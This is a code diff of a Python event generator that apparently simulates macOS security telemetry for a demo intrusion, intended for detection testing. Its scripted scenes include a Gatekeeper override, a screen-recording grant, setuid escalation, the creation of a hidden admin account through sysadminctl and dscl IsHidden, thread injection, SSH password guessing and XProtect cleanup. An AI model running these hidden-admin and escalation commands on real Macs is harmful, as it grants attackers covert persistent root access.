-    # The long-lived processes, already running when the recording starts (no fork/exec seen).
-    mac.next_pid, mac.next_pidversion = 41_200, 152_000
-    long_lived: list[tuple[Proc, float, list[str]]] = []
+    cfprefsd = procs["com.apple.cfprefsd.xpc.agent"]
+    dock = f"{HOME}/Library/Preferences/com.apple.dock.plist"
+    mac.file(dock)
+    temp = f"{dock}.sb-{hex_id(rng, 8).lower()}-{hex_id(rng, 6)}"
+    mac.create(cfprefsd, temp, 0o600)
+    mac.open(cfprefsd, temp, FWRITE | O_CREAT | O_CLOEXEC)
+    mac.write(cfprefsd, temp, 4096)
+    mac.close(cfprefsd, temp, modified=True)
+    mac.rename(cfprefsd, temp, dock)
+    mdm = mac.launch_job("com.apple.mdmclient.daemon", mac.image("/usr/libexec/mdmclient", "com.apple.mdmclient"),
+                         ["/usr/libexec/mdmclient", "daemon"])
+    _after_exec(mac, mdm)
+    org = "Example Org (example.invalid)"
+    mac.profile("add", DEMO_PROFILE, uuid_of(rng), display_name="Example Wi-Fi", organization=org, instigator=mdm)
+    mac.profile("remove", DEMO_OLD_PROFILE, uuid_of(rng), display_name="Legacy VPN", organization=org,
+                instigator=mdm)
 
-    def existing(path: str, sid: str, weight: float, pool: list[str], uid: int = ALICE, team=None, kind="platform",
-                 threads: int = 4, label: str | None = None) -> Proc:
-        img = mac.image(path, sid, team, kind)
-        p = Proc(mac.alloc_pid(), mac.alloc_pidversion(), img, mac.now - int(rng.uniform(60, 18_000) * 1e9), mac.launchd)
-        p.pgid = p.sid = p.pid
-        if uid == ALICE:
-            p.user(ALICE, GID_STAFF)
-            p.auid, p.asid = ALICE, GUI_ASID
-        elif uid:
-            p.user(uid, GID_WHEEL)
-        p.threads = [mac.tid() for _ in range(threads)]
-        p.cwd = mac.dir("/")
-        p.label = label
-        mac.launchd.children.add(p)
-        mac.procs[p.pid] = p
-        long_lived.append((p, weight, pool))
-        return p
 
-    existing(METADATA + "mds_stores", "com.apple.mds_stores", 14, pools["spotlight"], uid=0)
-    existing(METADATA + "mds", "com.apple.mds", 4, pools["spotlight"], uid=0)
-    for _ in range(3):
-        existing(METADATA + "mdworker_shared", "com.apple.mdworker_shared", 3, pools["docs"] + pools["dev"])
-    existing("/usr/libexec/logd", "com.apple.logd", 10, pools["logd"], uid=0)
-    existing("/usr/sbin/cfprefsd", "com.apple.cfprefsd", 6, pools["prefs"], uid=0)
-    existing("/usr/sbin/cfprefsd", "com.apple.cfprefsd", 8, pools["prefs"])
-    existing("/usr/libexec/runningboardd", "com.apple.runningboardd", 3, pools["tmp"], uid=0)
-    existing("/System/Library/CoreServices/Spotlight.app/Contents/MacOS/Spotlight", "com.apple.Spotlight", 4,
-             pools["caches"] + pools["spotlight"])
-    existing("/System/Library/PrivateFrameworks/SkyLight.framework/Versions/A/Resources/WindowServer",
-             "com.apple.WindowServer", 2, pools["system"], uid=88)
-    existing(SAFARI, "com.apple.Safari", 4, pools["caches"])
-    existing(WEBKIT_XPC.format("com.apple.WebKit.Networking"), "com.apple.WebKit.Networking", 6, pools["caches"])
+def _disk_image(mac: Mac, safari: Proc, procs: dict, session: list) -> None:
+    """Safari downloads a disk image (quarantined); it is mounted; Gatekeeper blocks its unnotarized
+    app and alice clicks Open Anyway; she runs it and ejects the disk."""
+    rng = mac.rng
+    mac.dir(f"{HOME}/Downloads")
+    mac.create(safari, DEMO_DMG, 0o644, new_path=True)
+    mac.open(safari, DEMO_DMG, FWRITE | O_CREAT | O_TRUNC)
     for _ in range(4):
-        existing(WEBKIT_XPC.format("com.apple.WebKit.WebContent"), "com.apple.WebKit.WebContent", 2, pools["system"])
-    existing("/Applications/Slack.app/Contents/MacOS/Slack", "com.tinyspeck.slackmacgap", 3, pools["caches"],
-             team="EXAMPLESLK", kind="devid")
-    existing("/Applications/Visual Studio Code.app/Contents/Frameworks/Code Helper (Plugin).app/Contents/MacOS/Code Helper (Plugin)",
-             "com.microsoft.VSCode.helper.plugin", 8, pools["dev"], team="EXAMPLEVSC", kind="devid")
-    existing("/System/Library/CoreServices/Finder.app/Contents/MacOS/Finder", "com.apple.finder", 2, pools["docs"])
-    for name in ("fseventsd", "opendirectoryd", "trustd", "syspolicyd", "bird", "cloudd", "nsurlsessiond", "sharingd",
-                 "distnoted", "lsd", "tccd", "powerd", "bluetoothd", "airportd", "configd", "notifyd"):
-        existing(f"/usr/libexec/{name}", f"com.apple.{name}", 0.5, pools["system"] + pools["prefs"],
-                 uid=0 if name in ("fseventsd", "opendirectoryd", "syspolicyd", "powerd", "configd", "notifyd") else ALICE)
-    terminal = existing(TERMINAL, "com.apple.Terminal", 1, pools["prefs"])
-    tty = mac.file("/dev/ttys001", mode=0o20620, uid=ALICE, gid=GID_TTY, size=0)
-    shells = []
-    for i in range(3):
-        sh = existing("/bin/zsh", "com.apple.zsh", 0.5, pools["dev"], threads=1)
-        sh.parent, sh.ppid, sh.original_ppid = terminal, terminal.pid, terminal.pid
-        sh.tty, sh.cwd = tty, mac.dir(f"{HOME}/src/" + ("osq-demo", "web-frontend", "payments-api")[i])
-        sh.resp_token = terminal.token()
-        sh.env = shell_env("/dev/ttys001", sh.cwd.path)
-        shells.append(sh)
-    launchers = shells + [mac.launchd]
-    procs = [p for p, _, _ in long_lived]
-    cum_weights = list(itertools.accumulate(w for _, w, _ in long_lived))
-    pool_of = {id(p): pool for p, _, pool in long_lived}
-    jobs: list[Proc] = []
-    plans: dict[int, list] = {}
-    third = [mac.image(path, sid, team, kind) for path, sid, team, kind in BENCH_THIRD_PARTY]
-    mdworker = mac.image(METADATA + "mdworker_shared", "com.apple.mdworker_shared")
-    temp_files: list[str] = []
-
-    random = rng.random
-
-    def actor() -> Proc:
-        if jobs and random() < 0.15:
-            return jobs[int(random() * len(jobs))]
-        return rng.choices(procs, cum_weights=cum_weights)[0]
-
-    def path_for(p: Proc) -> str:
-        pool = pool_of.get(id(p))
-        if pool is None or random() < 0.2:
-            pool = all_paths
-        if random() < 0.5:  # a few hot files, a long tail
-            return pool[min(int(rng.paretovariate(0.9)) - 1, len(pool) - 1)]
-        return pool[int(random() * len(pool))]
-
-    def do_fork() -> None:
-        parent = launchers[rng.randrange(len(launchers))]
-        child = mac.fork(parent, self_responsible=parent is mac.launchd, new_session=parent is mac.launchd,
-                         new_group=parent is not mac.launchd)
-        jobs.append(child)
-        if parent is mac.launchd:
-            label = f"com.apple.mdworker.shared.{_hex(rng, 8)}-0000-0000-0000-000000000000"
-            plans[child.pid] = [(mac.image("/usr/libexec/xpcproxy", "com.apple.xpc.proxy"), ["xpcproxy", label], ()),
-                                (mdworker, [mdworker.path, "-s", "mdworker", "-c", "MDSImporterWorker", "-m",
-                                            "com.apple.mdworker.shared"],
-                                 (f"XPC_SERVICE_NAME={label}", "PATH=/usr/bin:/bin:/usr/sbin:/sbin", "XPC_FLAGS=0x1"))]
-        else:
-            plans[child.pid] = _tool_plan(mac, rng, third, parent)
-
-    def do_exec() -> bool:
-        for j in jobs:  # the oldest job with something left to exec
-            plan = plans.get(j.pid)
-            if plan:
-                img, args, env = plan.pop(0)
-                mac.exec(j, img, args, env or j.env, fds=_tty_fds(rng.choice((0, 0, 3, 10))))
-                return True
-        return False
-
-    def do_exit() -> bool:
-        for i, j in enumerate(jobs):  # the oldest job that has run its plan
-            if j.execs and not plans.get(j.pid):
-                del jobs[i]
-                plans.pop(j.pid, None)
-                r = rng.random()
-                mac.exit(j, 0 if r < 0.85 else 1, signal=15 if r > 0.98 else 0)
-                return True
-        return False
-
-    names = [n for n, _ in BENCH_MIX]
-    cum = [w for _, w in BENCH_MIX]
-    ops = rng.choices(names, cum, k=1024)
-    k = 0
-    while mac.emitted < events:
-        if k == len(ops):
-            ops, k = rng.choices(names, cum, k=1024), 0
-            yield
-        op = ops[k]
-        k += 1
-        if op == "open":
-            p = actor()
-            mac.open(p, path_for(p), rng.choice((FREAD, FREAD | O_CLOEXEC, FREAD | O_CLOEXEC, FREAD | FWRITE,
-                                                 FWRITE | O_CREAT | O_TRUNC, FWRITE | FAPPEND, FREAD | 0x4)))
-        elif op == "write":
-            p = actor()
-            mac.write(p, path_for(p), rng.choice((512, 4096, 8192, 65536)))
-        elif op == "close":
-            p = actor()
-            mac.close(p, path_for(p), modified=rng.random() < 0.4, mapped_writable=rng.random() < 0.05)
-        elif op == "exec":
-            if not do_exec():
-                do_fork()
-        elif op == "fork":
-            if len(jobs) < 64 or not do_exit():  # keep the process table bounded
-                do_fork()
-        elif op == "exit":
-            if not do_exit() and not do_exec():
-                do_fork()
-        elif op == "iokit_open":
-            p = actor()
-            mac.iokit_open(p, rng.choice(IOKIT_CLASSES), rng.choice((0, 0, 1, 2)), 0x1000_0000 + rng.getrandbits(16),
-                           f"IOService:/AppleARMPE/arm-io@10F00000/AppleT810xIO/{rng.choice(('dcp', 'ans', 'mtp', 'sep', 'aop', 'gfx'))}@{_hex(rng, 8)}")
-        elif op == "create":
-            p = actor()
-            path = f"/private{TMPDIR}/TemporaryItems/NSIRD_{p.image.path.rsplit('/', 1)[-1]}_{_hex(rng, 6)}/tmp.{_hex(rng, 8).lower()}"
-            mac.create(p, path, 0o644)
-            temp_files.append(path)
-        elif op == "rename":
-            p = actor()
-            if temp_files:
-                src = temp_files.pop(rng.randrange(len(temp_files)))
-                mac.rename(p, src, path_for(p))
-            else:
-                src = path_for(p)
-                mac.rename(p, src, src + ".bak")
-        elif op == "unlink":
-            p = actor()
-            mac.unlink(p, temp_files.pop() if temp_files else path_for(p))
-        elif op == "mmap":
-            p = actor()
-            mac.mmap(p, rng.choice(pools["system"]), protection=rng.choice((1, 3, 5)), max_protection=7,
-                     flags=rng.choice((0x1, 0x2, 0x12)), file_pos=rng.getrandbits(12) * 0x4000)
-        elif op == "mprotect":
-            p = actor()
-            mac.mprotect(p, 0x1_0000_0000 + rng.getrandbits(30) * 0x4000, 0x4000 * rng.randint(1, 256), rng.choice((1, 3, 5)))
-        elif op == "signal":
-            if jobs:
-                target = jobs[rng.randrange(len(jobs))]
-                sender = target.parent if target.parent is not None and target.parent is not mac.launchd else terminal
-                mac.signal(sender, target, rng.choice((2, 15, 1, 30)))
-            else:
-                mac.signal(mac.launchd, procs[rng.randrange(len(procs))], 30)
-        elif op == "setmode":
-            p = actor()
-            mac.setmode(p, path_for(p), rng.choice((0o644, 0o600, 0o755)))
-    yield
+        mac.write(safari, DEMO_DMG, 262_144)
+    mac.close(safari, DEMO_DMG, modified=True)
+    mac.setextattr(safari, DEMO_DMG, "com.apple.quarantine")
+    mac.setextattr(safari, DEMO_DMG, "com.apple.metadata:kMDItemWhereFroms")
+    mac.sleep(4)
+    volume = k.Volume(DEMO_DMG_VOLUME, "/dev/disk4s1", "hfs", k.MNT_RDONLY | k.MNT_NOSUID | k.MNT_NODEV
+                      | k.MNT_QUARANTINE | k.MNT_LOCAL | k.MNT_JOURNALED | k.MNT_IGNORE_OWNERSHIP, owner=ALICE,
+                      blocks=2_400, free=310, files=57)
+    arbitration = procs["com.apple.diskarbitrationd"]
+    mac.mount(arbitration, volume, k.DISPOSITION_VIRTUAL)
+    tool = mac.image(DEMO_GATEKEEPER_OVERRIDE, "com.example.invalid.exampletool", "EXAMPLE4TL", "devid")
+    mac.sleep(6)
+    mac.gatekeeper_user_override(DEMO_GATEKEEPER_OVERRIDE, sha256=hex_id(rng, 64), signing=tool)
+    app = mac.launch_job("application.com.example.invalid.exampletool.2741630.2741637", tool, uid=ALICE,
+                         gid=GID_STAFF, asid=ALICE_ASID)
+    _after_exec(mac, app)
+    mac.sleep(8)
+    mac.exit(app, 0)
+    mac.unmount(arbitration, volume)
 
 
-def _tool_plan(mac: Mac, rng, third: list, parent: Proc) -> list:
-    """What a shell child execs: a shim then the real tool (xcrun-style), or one binary."""
-    env = _last_command(parent.env, "/usr/bin/env") if parent.env else ()
-    env_tool = mac.image("/usr/bin/env", "com.apple.env")
-    if rng.random() < 0.25:  # a "#!/usr/bin/env node" script: env, then the interpreter
-        img = third[rng.randrange(len(third))]
-        name = img.path.rsplit("/", 1)[-1]
-        args = _args(rng, name)
-        return [(env_tool, ["/usr/bin/env", name] + args, env), (img, [name] + args, env)]
-    shim, real, sid = BENCH_TOOLS[rng.randrange(len(BENCH_TOOLS))]
-    name = shim.rsplit("/", 1)[-1]
-    args = [name] + _args(rng, name)
-    plan = [(mac.image(shim, sid), args, env)]
-    if real:  # an xcrun-style shim hands over to the real tool
-        plan.append((mac.image(real, sid), [real] + args[1:], env + ("SDKROOT=/Library/Developer/CommandLineTools/SDKs/MacOSX.sdk",)))
-    elif rng.random() < 0.6:
-        plan.insert(0, (env_tool, ["/usr/bin/env"] + args, env))
-    return plan
+def _screen_recording_grant(mac: Mac, bg: Proc, session: list) -> Proc:
+    """The adopted payload listens on a socket, asks tccd for screen recording, and alice grants it
+    in System Settings (tcc_modify: instigator System Settings, identity the payload's path)."""
+    mac.uipc_bind(bg, DEMO_SOCKET, 0o777)
+    mac.xpc_connect(bg, "com.apple.tccd", u.XPC_DOMAIN_GUI)
+    mac.sleep(9)
+    settings = mac.launch_job("application.com.apple.systempreferences.2741655.2741662",
+                              mac.image(DEMO_SYSTEM_SETTINGS, "com.apple.systempreferences"), uid=ALICE,
+                              gid=GID_STAFF, asid=ALICE_ASID)
+    _after_exec(mac, settings)
+    session.append(settings)
+    mac.sleep(5)
+    mac.tcc_modify(DEMO_TCC_SERVICE, DEMO_PAYLOAD, identity_type=u.TCC_IDENTITY_PATH, update_type=u.TCC_CREATE,
+                   right=u.TCC_ALLOWED, reason=u.TCC_USER_SET, instigator=settings, responsible=settings)
+    # It patches its own code: a page made writable and executable, then CS_VALID goes.
+    mac.mprotect(bg, 0x1_0400_0000, 0x4000, 7)
+    mac.cs_invalidated(bg)
+    return settings
 
 
-def _args(rng, name: str) -> list[str]:
-    src = f"{HOME}/src/payments-api"
-    if name in ("clang", "xcrun"):  # compiler lines are long
-        return (["-cc1", "-triple", "arm64-apple-macosx15.0.0", "-emit-obj", "-O2", "-fno-omit-frame-pointer"]
-                + [f"-I{src}/include/{_hex(rng, 4).lower()}" for _ in range(rng.randint(10, 40))]
-                + [f"-D{_hex(rng, 6)}=1" for _ in range(rng.randint(2, 12))]
-                + ["-o", f"/private{TMPDIR}/{_hex(rng, 8).lower()}.o", f"{src}/src/{_hex(rng, 6).lower()}.c"])
-    if name == "git":
-        return rng.choice((["status", "--porcelain=v2", "--branch"], ["rev-parse", "--show-toplevel"],
-                           ["log", "-n", "20", "--format=%H %s"], ["diff", "--cached", "--stat"],
-                           ["fetch", "--prune", "origin"]))
-    if name in ("node", "python3"):
-        return [f"{src}/scripts/{_hex(rng, 5).lower()}.{'js' if name == 'node' else 'py'}", "--config",
-                f"{src}/config/{rng.choice(('dev', 'ci', 'prod'))}.json", "--verbose"]
-    return [f"{src}/{_hex(rng, 6).lower()}" for _ in range(rng.randint(1, 4))]
+def _escalate(mac: Mac, bg: Proc, payload_img, safari: Proc, webcontent: Proc) -> None:
+    """An admin-rights prompt the payload petitions and alice approves; its root helper (the
+    payload again, through security_authtrampoline) makes itself setuid root, creates a hidden
+    admin, and injects a thread into a WebContent process."""
+    mac.sleep(4)
+    mac.authorization("petition", bg, rights=(DEMO_AUTHORIZATION_RIGHT,), flags=0x3)  # interaction, extend rights
+    host = mac.launch_job("com.apple.security.authhost", mac.image(
+        "/System/Library/Frameworks/Security.framework/Versions/A/MachServices/authorizationhost.bundle/"
+        "Contents/MacOS/authorizationhost", "com.apple.authorizationhost"), uid=92, gid=92)
+    mac.sleep(7)
+    mac.authentication("od", True, _od_user("alice"), instigator=host)
+    mac.authorization("judgement", bg, results=((DEMO_AUTHORIZATION_RIGHT, u.RULE_USER, True),))
+    helper = mac.fork(bg)
+    mac.exec(helper, mac.image("/usr/libexec/security_authtrampoline", "com.apple.security_authtrampoline"),
+             ["/usr/libexec/security_authtrampoline", DEMO_PAYLOAD_ARG, "auth 7", "--install"], setuid=0)
+    mac.set_credentials(helper, "setuid", uid=0)
+    mac.exec(helper, payload_img, [DEMO_PAYLOAD_ARG, "--install"], dyld_exec_path=DEMO_PAYLOAD_ARG)
+    mac.uipc_connect(helper, DEMO_SOCKET)
+    mac.setowner(helper, DEMO_PAYLOAD, 0, 0)
+    mac.setmode(helper, DEMO_PAYLOAD, 0o4755)
+    add = _tool(mac, helper, SYSADMINCTL, ["sysadminctl", "-addUser", DEMO_HIDDEN_ADMIN, "-password", "-", "-admin"])
+    mac.od("create_user", add, {"user_name": DEMO_HIDDEN_ADMIN})
+    mac.od("modify_password", add, {"account_type": u.OD_ACCOUNT_USER, "account_name": DEMO_HIDDEN_ADMIN})
+    mac.od("group_add", add, {"group_name": "admin", "member": _member(DEMO_HIDDEN_ADMIN)})
+    mac.exit(add, 0)
+    hide = _tool(mac, helper, DSCL, ["dscl", ".", "-create", f"/Users/{DEMO_HIDDEN_ADMIN}", "IsHidden", "1"])
+    mac.od("attribute_set", hide, {"record_type": u.OD_RECORD_USER, "record_name": DEMO_HIDDEN_ADMIN,
+                                   "attribute_name": "IsHidden", "attribute_value_count": 1,
+                                   "attribute_values": ["1"]})
+    mac.exit(hide, 0)
+    enable = _tool(mac, helper, ("/usr/bin/pwpolicy", "com.apple.pwpolicy"),
+                   ["pwpolicy", "-u", DEMO_HIDDEN_ADMIN, "-enableuser"])
+    mac.od("enable_user", enable, {"user_name": DEMO_HIDDEN_ADMIN})
+    mac.exit(enable, 0)
+    for kind in ("get_task_name", "get_task_inspect", "get_task_read"):
+        mac.get_task(helper, safari, kind=kind)
+    mac.trace(helper, webcontent)
+    mac.get_task(helper, webcontent, type=k.GET_TASK_FOR_PID)
+    mac.remote_thread_create(helper, webcontent)
+    mac.exit(helper, 0)
 
 
-SCENARIOS = {"demo": (demo, 2500), "bench": (bench, 100_000)}
+def _sudo_and_su(mac: Mac, zsh: Proc, env: tuple) -> None:
+    """``sudo launchctl list`` with Touch ID (pam_tid), then a failed ``su - ituser``."""
+    mac.sleep(12)
+    sudo = _tool(mac, zsh, SUDO, ["sudo", "launchctl", "list"], last_command(env, SUDO[0]), new_group=True,
+                 setuid=0)
+    mac.authentication("touchid", True, {"touchid_mode": 0, "uid": ALICE}, instigator=sudo)
+    mac.sudo(sudo, True, command="/bin/launchctl list", from_uid=ALICE, from_username="alice")
+    launchctl = _tool(mac, sudo, ("/bin/launchctl", "com.apple.xpc.launchctl"), ["launchctl", "list"])
+    mac.exit(launchctl, 0)
+    mac.exit(sudo, 0)
+    mac.sleep(6)
+    su = _tool(mac, zsh, ("/usr/bin/su", "com.apple.su"), ["su", "-", DEMO_IT_USER], last_command(env, "/usr/bin/su"),
+               new_group=True, setuid=0)
+    mac.sleep(4)
+    mac.authentication("od", False, _od_user(DEMO_IT_USER), instigator=su)
+    mac.su(su, False, from_uid=ALICE, from_username="alice", to_uid=None, to_username=None,
+           failure_message="Sorry")
+    mac.exit(su, 1)
+
+
+def _sshd(mac: Mac) -> Proc:
+    """launchd starts one sshd per connection (inetd style)."""
+    sshd = mac.launch_job("com.openssh.sshd", mac.image("/usr/sbin/sshd", "com.apple.sshd"), ["/usr/sbin/sshd", "-i"])
+    _after_exec(mac, sshd)
+    return sshd
+
+
+def _it_visit(mac: Mac, rng) -> None:
+    """Password guessing over SSH from 198.51.100.23; ituser logs in from 192.0.2.10, runs an
+    onboarding script with sudo (OpenDirectory changes), and helps alice over Screen Sharing."""
+    guesser = _sshd(mac)
+    mac.openssh("login", guesser, DEMO_SSH_GUESSING, "admin", None, success=False, result=u.SSH_INVALID_USER)
+    for _ in range(2):
+        mac.sleep(rng.uniform(1, 3))
+        mac.openssh("login", guesser, DEMO_SSH_GUESSING, "alice", None, success=False,
+                    result=u.SSH_AUTH_FAIL_PASSWD)
+    mac.exit(guesser, 255)
+    mac.sleep(40)
+    sshd = _sshd(mac)
+    mac.openssh("login", sshd, DEMO_SSH_FROM, DEMO_IT_USER, DEMO_IT_UID)
+    shell = mac.fork(sshd, new_session=True)
+    shell.user(DEMO_IT_UID, GID_STAFF)
+    home = f"/Users/{DEMO_IT_USER}"
+    env = (f"USER={DEMO_IT_USER}", f"LOGNAME={DEMO_IT_USER}", f"HOME={home}", "SHELL=/bin/zsh",
+           "PATH=/usr/bin:/bin:/usr/sbin:/sbin", f"SSH_CLIENT={DEMO_SSH_FROM} 52144 22",
+           f"SSH_CONNECTION={DEMO_SSH_FROM} 52144 192.0.2.50 22", "TERM=xterm-256color")
+    mac.exec(shell, mac.image("/bin/zsh", "com.apple.zsh"), ["-zsh"], env, cwd=mac.dir(home))
+    script = f"{home}/onboard.sh"
+    sudo = _tool(mac, shell, SUDO, ["sudo", "/bin/zsh", script], new_group=True, setuid=0)
+    mac.authentication("od", True, _od_user(DEMO_IT_USER), instigator=sudo)
+    mac.sudo(sudo, True, command=f"/bin/zsh {script}", from_uid=DEMO_IT_UID, from_username=DEMO_IT_USER)
+    root = _tool(mac, sudo, ("/bin/zsh", "com.apple.zsh"), ["/bin/zsh", script])
+    root.user(0, GID_WHEEL)
+    for tool, args, kind, fields in (
+        (SYSADMINCTL, ["sysadminctl", "-guestAccount", "off"], "disable_user", {"user_name": "Guest"}),
+        (DSEDITGROUP, ["dseditgroup", "-o", "create", "-r", "Example developers", "example-devs"], "create_group",
+         {"group_name": "example-devs"}),
+        (DSCL, ["dscl", ".", "-create", "/Groups/example-devs", "GroupMembership", "alice", DEMO_IT_USER], "group_set",
+         {"group_name": "example-devs", "members": {"member_type": u.OD_MEMBER_USER_NAME, "member_count": 2,
+                                                    "member_array": ["alice", DEMO_IT_USER]}}),
+        (DSCL, ["dscl", ".", "-append", "/Users/alice", "Comment", "example-devs"], "attribute_value_add",
+         {"record_type": u.OD_RECORD_USER, "record_name": "alice", "attribute_name": "Comment",
+          "attribute_value": "example-devs"}),
+        (DSCL, ["dscl", ".", "-delete", "/Users/alice", "Comment", "contractor"], "attribute_value_remove",
+         {"record_type": u.OD_RECORD_USER, "record_name": "alice", "attribute_name": "Comment",
+          "attribute_value": "contractor"}),
+        (DSEDITGROUP, ["dseditgroup", "-o", "delete", "old-contractors"], "delete_group",
+         {"group_name": "old-contractors"}),
+    ):
+        p = _tool(mac, root, tool, args)
+        mac.od(kind, p, fields)
+        mac.exit(p, 0)
+    mac.exit(root, 0)
+    mac.exit(sudo, 0)
+    mac.sleep(25)
+    screensharingd = mac.reporter("screensharingd")
+    mac.authentication("token", True, {"pubkey_hash": hex_id(rng, 40), "token_id": "com.example.invalid.piv:"
+                                       + hex_id(rng, 12), "kerberos_principal": None}, instigator=screensharingd)
+    mac.screensharing("attach", DEMO_GRAPHICAL_SESSION, address=DEMO_SSH_FROM, auth_type="smartcard",
+                      auth_username=DEMO_IT_USER, session_username="alice", existing_session=True)
+    mac.sleep(75)
+    mac.screensharing("detach", DEMO_GRAPHICAL_SESSION, address=DEMO_SSH_FROM)
+    mac.exit(shell, 0)
+    mac.openssh("logout", sshd, DEMO_SSH_FROM, DEMO_IT_USER, DEMO_IT_UID)
+    mac.exit(sshd, 0)
+
+
+def _xprotect(mac: Mac, rng, bg: Proc) -> None:
+    """XProtect detects the payload, kills the adopted process, deletes the binary, and says so."""
+    incident, version = uuid_of(rng), "5312"
+    mac.xp_malware_detected(DEMO_MALWARE, incident, DEMO_PAYLOAD, DEMO_PAYLOAD, version)
+    xprotect = mac.reporter("XProtect")
+    mac.signal(xprotect, bg, 9)
+    mac.exit(bg, signal=9)
+    mac.unlink(xprotect, DEMO_PAYLOAD)
+    mac.xp_malware_remediated(DEMO_MALWARE, incident, action="path_delete", success=True,
+                              description="Remediated: process killed, file deleted", path=DEMO_PAYLOAD,
+                              process=bg, signature_version=version)
+
+
+def _clean_up(mac: Mac, zsh: Proc, env: tuple, terminal: Proc) -> None:
+    """rm of both agents (BTM sees them go), ``tccutil reset ScreenCapture``, and ``sudo
+    sysadminctl -deleteUser _sysupdate`` (out of admin, then deleted)."""
+    rm = _tool(mac, zsh, ("/bin/rm", "com.apple.rm"), ["rm", DEMO_LAUNCH_AGENT, DEMO_RENAMED_AGENT],
+               last_command(env, "/bin/rm"), new_group=True)
+    for path, url in ((DEMO_LAUNCH_AGENT, DEMO_LAUNCH_AGENT_URL), (DEMO_RENAMED_AGENT, DEMO_RENAMED_AGENT_URL)):
+        mac.unlink(rm, path)
+        mac.btm_launch_item("remove", url)
+    mac.exit(rm, 0)
+    tccutil = _tool(mac, zsh, ("/usr/bin/tccutil", "com.apple.tccutil"), ["tccutil", "reset", "ScreenCapture"],
+                    last_command(env, "/usr/bin/tccutil"), new_group=True)
+    mac.tcc_modify(DEMO_TCC_SERVICE, DEMO_PAYLOAD, identity_type=u.TCC_IDENTITY_PATH, update_type=u.TCC_DELETE,
+                   right=u.TCC_DENIED, reason=u.TCC_USER_SET, instigator=tccutil, responsible=terminal)
+    mac.exit(tccutil, 0)
+    sudo = _tool(mac, zsh, SUDO, ["sudo", "sysadminctl", "-deleteUser", DEMO_HIDDEN_ADMIN],
+                 last_command(env, SUDO[0]), new_group=True, setuid=0)
+    mac.authentication("touchid", True, {"touchid_mode": 0, "uid": ALICE}, instigator=sudo)
+    mac.sudo(sudo, True, command=f"/usr/sbin/sysadminctl -deleteUser {DEMO_HIDDEN_ADMIN}", from_uid=ALICE,
+             from_username="alice")
+    delete = _tool(mac, sudo, SYSADMINCTL, ["sysadminctl", "-deleteUser", DEMO_HIDDEN_ADMIN])
+    mac.od("group_remove", delete, {"group_name": "admin", "member": _member(DEMO_HIDDEN_ADMIN)})
+    mac.od("delete_user", delete, {"user_name": DEMO_HIDDEN_ADMIN})
+    mac.exit(delete, 0)
+    mac.exit(sudo, 0)
